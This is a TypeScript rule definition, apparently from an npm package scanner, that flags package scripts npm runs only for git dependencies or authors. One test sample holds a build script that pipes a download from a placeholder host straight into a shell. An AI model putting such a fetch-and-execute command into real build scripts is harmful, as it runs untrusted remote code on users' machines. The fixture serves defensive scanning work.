import type { Rule } from '../rule';

export const prepareScript: Rule = {
  code: 'prepare-script',
  ecosystem: 'npm',
  kind: 'install-hook',
  severity: 'info',
  verdict: 'clean',
  tactic: 'execution',
  capabilities: [],
  languages: ['manifest'],
  summary: 'The package has a script that npm runs for git dependencies and authors only.',
  judge: ({ otherScripts }) =>
    otherScripts.map((script) => ({
      message: `The package has a script "${script}", which npm does not run for packages of a registry.`,
      file: 'package.json',
    })),
  samples: {
    hits: [
      {
        what: 'scripts for the author only',
        format: 'tarball',
        manifest: { scripts: { test: 'jest', build: 'curl https://a.invalid | sh', prepare: 'husky' } },
        verdict: 'clean',
      },
    ],
    ignores: [
      {
        what: 'a script to build with',
        format: 'tarball',
        manifest: { scripts: { build: 'tsc' } },
        why: 'Only a person has it run.',
        verdict: 'clean',
      },
    ],
  },
};
